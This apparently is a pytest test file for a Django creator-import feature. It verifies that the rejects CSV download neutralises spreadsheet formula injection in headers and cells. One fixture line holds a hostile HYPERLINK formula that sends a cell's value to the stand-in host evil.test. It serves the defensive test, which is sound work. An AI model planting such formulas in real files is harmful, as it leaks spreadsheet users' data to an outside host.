"""The rejects download is a file a marketer opens in a spreadsheet: nothing from the upload, the column
names included, may run there as a formula."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from accounts.tenancy import workspace_scope
from creators.importing.rejects import write_rejects_csv
from creators.importing.services import create_import_job, run_import_job

pytestmark = pytest.mark.django_db

FORMULA_COLUMN = '=HYPERLINK("https://evil.test/?leak="&A2,"Open")'


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def _csv(header, rows) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode()


def test_a_column_named_like_a_formula_is_defused_in_the_rejects_download(client, manager, workspace):
    content = _csv(["username", FORMULA_COLUMN, "country"], [("maya", "1", "US"), ("jo", "x", "US")])
    with workspace_scope(workspace):
        job = create_import_job(
            workspace=workspace,
            by=manager,
            upload=SimpleUploadedFile("creators.csv", content, content_type="text/csv"),
        )
    client.force_login(manager)
    client.post(
        reverse("creators:import-mapping", kwargs={"import_job_pk": job.pk}),
        {"handle": "username", "follower_count": FORMULA_COLUMN, "country": "country"},
    )
    run_import_job(import_job_id=job.pk)

    response = client.get(reverse("creators:import-rejects", kwargs={"import_job_pk": job.pk}))

    header, *rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert header == ["row", "reason", "username", f"'{FORMULA_COLUMN}", "country"]
    assert len(rows) == 1 and rows[0][0] == "2" and rows[0][1].startswith("'=HYPERLINK")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in [*header, *rows[0]])


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_defused_in_header_and_cells(start):
    out = io.StringIO()

    write_rejects_csv([{"row": 3, "reason": "bad", "cells": [[f"{start}col", f"{start}1"], ["plain", "ok"]]}], out)

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["row", "reason", f"'{start}col", "plain"],
        ["3", "bad", f"'{start}1", "ok"],
    ]
